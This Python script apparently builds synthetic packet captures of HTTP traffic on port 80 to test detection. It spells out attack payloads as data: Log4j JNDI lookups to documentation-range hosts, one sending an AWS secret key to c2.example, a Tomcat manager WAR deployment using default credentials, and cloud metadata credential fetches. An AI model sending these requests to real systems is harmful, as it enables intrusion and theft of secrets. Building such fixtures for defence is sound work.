"""Crafted: what else is left on port 80, good and bad. python -m pcaps.clear.craft

Attacks are what their advisories and published payloads show, towards invented hosts; none can work on anything. What a
real client sends is recorded (record.py).
"""

from __future__ import annotations

import struct
from collections.abc import Sequence
from urllib.parse import quote

from pcaps.clear import attacks
from pcaps.lab import crafting
from pcaps.lab.crafting import Crafted
from pcaps.lab.plain import BROWSER, NOT_FOUND, PAGE, Visit, crafted, talk_of

WORKSHOP = crafting.Workshop("clear")

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(100)
DOS = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + struct.pack("<I", 64)
SHARED, OBJECT = (ELF[:16] + struct.pack("<H", kind) + ELF[18:] for kind in (3, 1))
PE = DOS + b"PE\x00\x00\x64\x86\x02\x00" + bytes(80)
MACH = bytes.fromhex("cffaedfe0700000103000000020000000f000000") + bytes(100)
JAVA_CLASS = bytes.fromhex("cafebabe00000034001d0a0006000f09") + b"Exploit".ljust(60, b"\0")
DEB = b"!<arch>\ndebian-binary   1790841600  0     0     100644  4         `\n2.0\n" + bytes(60)
SHELL = b"#!/bin/sh\nset -e\necho installing\n"


def _capture(name: str, shows: str, *talks: Sequence[Visit]) -> None:
    """A capture of one connection for each of `talks`, each from the next port."""

    @WORKSHOP.piece(name, shows)
    def build() -> Crafted:
        made = []
        for number, visits in enumerate(talks):
            now = made[-1].now if made else None
            options = {} if now is None else {"now": now}
            made.append(talk_of(visits, orig=("10.20.0.31", 49152 + number), **options))
        return crafted(*made)


def _download(target: str, body: bytes, kind: str, agent: str = BROWSER, host: str = "get.harbour.example") -> Visit:
    return Visit(target, host=host, agent=agent, reply=body, reply_type=kind)


# Log4j
_capture(
    "log4j-headers.pcap",
    "Log4j lookups, 32 published obfuscations, one a request, in different headers",
    [
        Visit(
            "/",
            headers=() if header == "User-Agent" else (f"{header}: {text}",),
            agent=text if header == "User-Agent" else BROWSER,
        )
        for (text, header) in zip(attacks.LOG4J, attacks.log4j_headers(), strict=True)
    ],
)
_capture(
    "log4j-targets.pcap",
    "Log4j lookups in targets: plain, percent-encoded once and twice, in a parameter and in the path",
    [Visit(target) for target in attacks.LOG4J_TARGETS],
)
_capture(
    "log4j-bodies.pcap",
    "Log4j lookups in a form, in JSON with escapes, in XML and in plain text",
    [
        Visit("/login", "POST", body=b"user=" + quote(attacks.LOG4J[0]).encode() + b"&x=1"),
        Visit(
            "/api",
            "POST",
            body=b'{"user": "\\u0024\\u007bjndi:ldap://198.51.100.66:1389/a}"}',
            content_type="application/json",
        ),
        Visit("/soap", "POST", body=b"<a><b>${jndi:rmi://198.51.100.66/a}</b></a>", content_type="text/xml"),
        Visit("/log", "POST", body=b"hello ${${::-j}ndi:dns://198.51.100.66/a}", content_type="text/plain"),
    ],
)
_capture(
    "log4j-secrets.pcap",
    "lookups that carry away environment variables, and one that only asks for them",
    [
        Visit(headers=("X-Api-Version: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.c2.example/a}",)),
        Visit(headers=("Referer: ${sys:java.version} ${env:PATH}",)),
    ],
)
_capture(
    "java-class-download.pcap",
    "Java fetches a class over plain HTTP, as a JNDI reference makes it: the second stage of Log4Shell",
    [_download("/Exploit.class", JAVA_CLASS, "application/java-vm", "Java/1.8.0_181", "198.51.100.66:8888")],
)

# Attacks on what answers
_capture("tomcat-probes.pcap", "Tomcat: manager, JSP by PUT, partial PUT of a session", list(attacks.TOMCAT))
_capture(
    "tomcat-manager-open.pcap",
    "Tomcat's manager answers: a WAR file is deployed with a password",
    [
        *(
            Visit(each, headers=("Authorization: Basic dG9tY2F0OnRvbWNhdA==",))
            for each in ("/manager/html", "/manager/status", "/manager/jmxproxy/", "/host-manager/html")
        ),
        Visit(
            "/manager/text/deploy?path=/x",
            "PUT",
            headers=("Authorization: Basic dG9tY2F0OnRvbWNhdA==",),
            body=b"PK\x03\x04" + bytes(26),
            content_type="application/octet-stream",
            reply=b"OK - Deployed\n",
            reply_type="text/plain",
        ),
    ],
)
_capture("shellshock.pcap", "Shellshock in User-Agent, Referer and Cookie", list(attacks.SHELLSHOCK))
_capture(
    "java-frameworks.pcap", "Struts, Spring4Shell, Spring Cloud, WebLogic, Confluence, Jolokia", list(attacks.JAVA)
)
_capture("php-probes.pcap", "PHP: CGI arguments, eval-stdin, ThinkPHP, php:// streams, Laravel", list(attacks.PHP))
_capture("device-probes.pcap", "routers and cameras: commands in parameters of known holes", list(attacks.DEVICES))
_capture(
    "gateway-probes.pcap",
    "Citrix, F5, Pulse, FortiGate, PAN-OS, Exchange, MOVEit, ScreenConnect",
    list(attacks.GATEWAYS),
)
_capture(
    "secrets-probes.pcap", "files that should not be served: .env, .git, keys, dumps, actuators", list(attacks.SECRETS)
)
_capture("traversal.pcap", "paths that climb, plain and encoded, and Apache 2.4.49's way", list(attacks.TRAVERSAL))
_capture("sql-injection.pcap", "SQL in parameters", list(attacks.SQL))
_capture(
    "scanners.pcap", "scanners that say who they are", [Visit(agent=agent, **NOT_FOUND) for agent in attacks.SCANNERS]
)
_capture(
    "open-proxy-probe.pcap",
    "a web server is asked for another site, and to CONNECT",
    [
        Visit("http://check.example/ip", host="check.example"),
        Visit("mail.example:25", "CONNECT", host="mail.example:25", status="405 Method Not Allowed"),
    ],
)

_capture(
    "secrets-served.pcap",
    "files that should not be served are, one of them in part",
    [Visit(each, reply=b"secret\n", reply_type="application/octet-stream") for each in attacks.SECRET_FILES]
    + [Visit("/.env", status="206 Partial Content", reply=b"DB_", reply_type="application/octet-stream")],
)
_capture(
    "secrets-page.pcap",
    "a page that is shown for everything, and an empty reply, where files with secrets were looked for",
    [Visit("/.env"), Visit("/.git/HEAD", reply=b"", reply_type="text/plain")],
)
_capture("injection.pcap", "a script tag, an external entity and a shell's command", list(attacks.INJECTION))
_capture(
    "brute-force.pcap",
    "twelve passwords are tried, and refused",
    [
        Visit("/intranet", headers=(f"Authorization: Basic {basic}",), status="401 Unauthorized")
        for basic in attacks.guesses(12)
    ],
)


@WORKSHOP.piece("log4shell-chain.pcap", "a server is sent a Log4j lookup, then fetches a Java class: it worked")
def log4shell() -> Crafted:
    sent = talk_of([Visit(agent=attacks.LOG4J[0])], orig=("10.20.0.31", 49152), resp=("10.20.0.80", 80))
    fetched = talk_of(
        [_download("/Exploit.class", JAVA_CLASS, "application/java-vm", "Java/1.8.0_181", "198.51.100.66:8888")],
        orig=("10.20.0.80", 40112),
        resp=("198.51.100.66", 8888),
        now=sent.now + 2 * 10**9,
    )
    return crafted(sent, fetched, readable=False)


# What is given away
_capture(
    "credentials.pcap",
    "passwords and tokens in the clear: Basic, Digest, Bearer, API key, form, JSON, XML, URL, proxy",
    [
        Visit("/intranet", headers=("Authorization: Basic b2xhOmh1bnRlcjI=",)),
        Visit(
            "/intranet",
            headers=('Authorization: Digest username="ola", realm="r", nonce="n", uri="/intranet", response="r"',),
        ),
        Visit(
            "/api/v1/me", headers=("Authorization: Bearer eyJhbGciOiJub25lIn0.e30.",), agent="python-requests/2.32.3"
        ),
        Visit("/api/v1/me", headers=("X-Api-Key: 0123456789abcdef",), agent="python-requests/2.32.3"),
        *(Visit("/api", headers=(f"Authorization: {each}",)) for each in attacks.TOKENS),
        *(Visit("/api", headers=(each,)) for each in ("Api-Key: 0123", "Private-Token: glpat-0123")),
        Visit("http://ola:hunter2@www.harbour.example/"),
        Visit("/login", "POST", body=b"username=ola&password=hunter2"),
        Visit("/api/login", "POST", body=b'{"user": "ola", "password": "hunter2"}', content_type="application/json"),
        Visit("/soap", "POST", body=b"<Login><Password>hunter2</Password></Login>", content_type="text/xml"),
        Visit("/feed?user=ola&password=hunter2"),
        Visit("/feed?user=ola&pass=hunter2"),
        Visit("/till?account=7&pin=1234"),
        Visit("/login", "POST", body=b"login=ola&pass=hunter2"),
        Visit("/export?access_token=0123456789abcdef"),
        Visit("/shop/basket.jsp;jsessionid=0123456789abcdef"),
        Visit("/token", "POST", body=b"grant_type=refresh_token&refresh_token=0123456789abcdef"),
    ],
    [Visit("http://www.harbour.example/", headers=("Proxy-Authorization: Basic b2xhOmh1bnRlcjI=",))],
)
_capture(
    "cookies.pcap",
    "a session's cookie is set and sent without TLS, and one for the language",
    [
        Visit("/", reply_headers=("Set-Cookie: JSESSIONID=0123456789ABCDEF; Path=/; HttpOnly", "Set-Cookie: lang=nb")),
        Visit("/account", headers=("Cookie: JSESSIONID=0123456789ABCDEF; lang=nb",)),
    ],
)
_capture(
    "cookies-harmless.pcap",
    "cookies that say nothing of who it is",
    [Visit("/", reply_headers=("Set-Cookie: lang=nb",)), Visit("/about", headers=("Cookie: lang=nb; theme=dark",))],
)


def _metadata(*targets: str, host: str = "169.254.169.254") -> Crafted:
    visits = [
        Visit(each, host=host, agent="curl/8.5.0", reply=b"{}\n", reply_type="application/json") for each in targets
    ]
    return crafted(talk_of(visits, resp=("169.254.169.254", 80)))


@WORKSHOP.piece(
    "metadata-service.pcap", "the keys of a cloud machine are fetched from its metadata service, in three clouds' ways"
)
def metadata() -> Crafted:
    return _metadata(
        "/latest/meta-data/iam/security-credentials/web",
        "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=x",
        "/computeMetadata/v1/instance/service-accounts/default/token",
    )


@WORKSHOP.piece("metadata-harmless.pcap", "a cloud machine asks its metadata service for its own name")
def metadata_harmless() -> Crafted:
    return _metadata("/latest/meta-data/hostname")


_capture(
    "wpad.pcap",
    "a proxy's settings are fetched without TLS",
    [
        Visit(
            "/wpad.dat",
            host="wpad.harbour.example",
            agent="WinHttp-Autoproxy-Service/5.1",
            reply=b'function FindProxyForURL(u, h) { return "PROXY proxy.harbour.example:3128"; }\n',
            reply_type="application/x-ns-proxy-autoconfig",
        ),
    ],
)

# What is fetched
_capture(
    "executables.pcap",
    "programs for Windows, Linux and macOS, a JAR's class and a Debian package, in the clear",
    [
        _download("/setup.exe", PE, "application/octet-stream"),
        _download("/agent", ELF, "application/octet-stream", "Wget/1.21.3"),
        _download("/tool", MACH, "application/octet-stream"),
        _download("/lib.so", SHARED, "application/octet-stream"),
        _download("/part.o", OBJECT, "application/octet-stream"),
        _download("/agent_1.0_amd64.deb", DEB, "application/vnd.debian.binary-package", "Wget/1.21.3"),
    ],
)
_capture(
    "executable-as-picture.pcap",
    "programs that are called pictures, a text and a style sheet",
    [
        _download("/img/logo.jpg", PE, "image/jpeg"),
        _download("/notes.txt", ELF, "text/plain"),
        _download("/a.png", MACH, "image/png"),
        _download("/b.gif", SHARED, "image/gif"),
        _download("/c.css", OBJECT, "text/css"),
    ],
)
_capture(
    "scripts.pcap",
    "scripts fetched by command-line tools, by their names and by what is in them",
    [
        _download("/install.sh", b"echo installing\n", "text/plain", "curl/8.5.0"),
        _download("/get", SHELL, "text/x-sh", "Wget/1.21.3"),
        _download("/get.py", b"#!/usr/bin/python3\n", "text/plain", "curl/8.5.0"),
    ],
)
_capture(
    "powershell.pcap",
    "PowerShell, old and new, fetches a script",
    [
        _download("/stage.ps1", b"Write-Host installing\n", "text/plain", agent)
        for agent in (
            "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.26100.1882",
            "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.26100; en-GB) PowerShell/7.4.5",
        )
    ],
)
_capture(
    "windows-scripts.pcap",
    "a browser fetches an HTML application and a VBScript",
    [
        _download("/help.hta", b"<html><hta:application></html>\n", "application/hta"),
        _download("/run.vbs", b"WScript.Echo 1\n", "text/plain"),
    ],
)
_capture(
    "certutil.pcap",
    "certutil fetches a program, as CryptoAPI and as its URL agent",
    [
        _download("/a.exe", PE, "application/octet-stream", "Microsoft-CryptoAPI/10.0"),
        _download("/a.exe", PE, "application/octet-stream", "CertUtil URL Agent"),
    ],
)

# What is only noise
_capture(
    "packages.pcap",
    "package managers at their mirrors",
    [
        Visit(target, host=host, agent=agent, reply=b"x" * 40, reply_type="application/octet-stream")
        for agent, host, target in attacks.PACKAGE_MANAGERS
    ],
)
_capture(
    "libraries.pcap",
    "libraries for programs are fetched without TLS",
    [
        Visit(target, host=host, agent=agent, reply=b"PK\x03\x04" + bytes(40), reply_type="application/java-archive")
        for agent, host, target in attacks.LIBRARY_MANAGERS
    ],
)
_capture(
    "updates.pcap",
    "Windows Update, Delivery Optimization, Chrome's and Firefox's updaters, an antivirus",
    [
        Visit(
            target,
            host=host,
            agent=agent,
            reply=PE if agent.partition("/")[0] != "ClamAV" else bytes(60),
            reply_type="application/octet-stream",
        )
        for agent, host, target in attacks.UPDATERS
    ],
)
_capture(
    "monitoring.pcap", "monitoring that asks whether a server is there", [Visit("/", agent=a) for a in attacks.MONITORS]
)
_capture(
    "connectivity.pcap",
    "is there an Internet: Android, Apple, Windows, Firefox, NetworkManager",
    [
        Visit(
            target,
            host=host,
            agent=None,
            status=status,
            reply=b"" if "204" in status else b"Success\n",
            reply_type="text/plain",
        )
        for host, target, status in attacks.CONNECTIVITY
    ],
)
_capture(
    "ordinary.pcap",
    "what is near to attacks and is none: prices, templates, dollars, percent signs, words, an account's page",
    [
        Visit("/search?q=union+select+committee"),
        Visit("/calc?price=%245&tax=25%25"),
        Visit("/docs/../docs/index.html"),
        Visit("/manager/team.html", **NOT_FOUND),
        *attacks.LOOK_ALIKES,
        Visit("/blog/what-is-log4j-jndi-ldap"),
        Visit("/a", headers=('Sec-CH-UA: "Chromium";v="156", "Not{A;Brand";v="8"',)),
        Visit("/b", headers=('X-State: {"a": {"b": [1, 2]}}', 'If-None-Match: W/"5-$x"')),
        Visit("/c?filter=(a)&sort=-name&page=2"),
        Visit("/docs/iam/security-credentials/help.html"),
        Visit("/index.jsp"),
        Visit("/old/setup.vbs", **NOT_FOUND),
        Visit("/classes/Applet.class", reply=JAVA_CLASS, reply_type="application/java-vm"),
        Visit("/upload", "POST", body=b"harbour " * 640, content_type="text/plain"),
        Visit("/d", "POST", body=b"comment=I+paid+%245+for+%7Bit%7D&email=ola%40harbour.example"),
        Visit("/e", "POST", body=b'{"template": "Dear {{name}}, ${amount}", "id": 7}', content_type="application/json"),
        Visit("/password-reset"),
        Visit("/pictures/passport.jpg", reply=bytes.fromhex("ffd8ffe000104a46494600010100"), reply_type="image/jpeg"),
        Visit("/readme.txt", reply=b"Programs begin with MZ\n", reply_type="text/plain"),
        Visit("/news.php?id=17&lang=nb"),
        Visit("/.well-known/security.txt", **NOT_FOUND),
        Visit("/ocsp-explained.html", reply=PAGE),
        Visit("/", "CONNECT", status="405 Method Not Allowed"),
    ],
)

if __name__ == "__main__":
    crafting.run(WORKSHOP)
